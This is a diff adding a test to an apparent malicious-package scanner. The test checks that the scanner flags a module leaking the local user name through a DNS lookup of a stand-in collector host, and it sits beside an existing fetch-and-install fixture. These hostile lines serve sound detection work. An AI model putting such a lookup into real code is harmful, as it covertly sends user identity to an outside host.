@@ -152,3 +152,14 @@ def test_a_package_installed_from_a_fetched_address_at_import_is_download_and_ru
                                   "    subprocess.run(['pip', 'install', 'placeholder-extra'])\ngo()\n"})
     assert "download-exec" in rules_of(fetched) and fetched.verdict == "malicious"
     assert "download-exec" not in rules_of(fixed) and fixed.verdict == "clean"
+
+
+def test_looking_up_the_own_host_name_kept_in_an_attribute_is_recon(tmp_path):
+    def module(lookup):  # noqa: ANN001, ANN202
+        return ("import getpass, socket, requests\nclass Run:\n    def __init__(self):\n"
+                "        self.host = socket.gethostname()\n        self.user = getpass.getuser()\n"
+                f"        self.address = socket.gethostbyname({lookup})\n")
+    own = _scan(tmp_path, "a", {"demo/sub/runner.py": module("self.host")})
+    built = _scan(tmp_path, "b", {"demo/sub/runner.py": module("self.user + '.collector.placeholder-host.net'")})
+    assert "net-call" not in rules_of(own) and "exfil-host-data" not in rules_of(own)
+    assert "exfil-dns" in rules_of(built)
